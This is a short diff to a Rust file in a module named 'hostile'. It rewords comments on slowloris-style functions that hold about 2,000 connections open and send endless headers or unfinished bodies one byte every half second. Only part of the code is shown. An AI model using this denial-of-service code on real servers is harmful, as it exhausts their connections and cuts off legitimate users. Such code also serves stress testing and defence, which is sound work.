@@ -1,4 +1,4 @@
-//! Requests that do not come to an end: a byte now and then.
+//! Requests that never end: a byte from time to time.
 
 use std::thread;
 use std::time::{Duration, Instant};
@@ -11,14 +11,14 @@ const CONNECTIONS: usize = 2_000;
 const HELD: Duration = Duration::from_secs(12);
 const BETWEEN_BYTES: Duration = Duration::from_millis(500);
 
-/// A field's value that goes on and on.
+/// A field's value without an end.
 pub(in crate::hostile) fn heads(strike: &mut Strike) -> Result<(), WorkerError> {
     let host = strike.web()?.host.clone();
     let begin = format!("GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: ");
     drip(strike, "heads that do not end", &begin)
 }
 
-/// A body of which most never comes.
+/// A body of which most is never sent.
 pub(in crate::hostile) fn bodies(strike: &mut Strike) -> Result<(), WorkerError> {
     let host = strike.web()?.host.clone();
     let begin = format!(
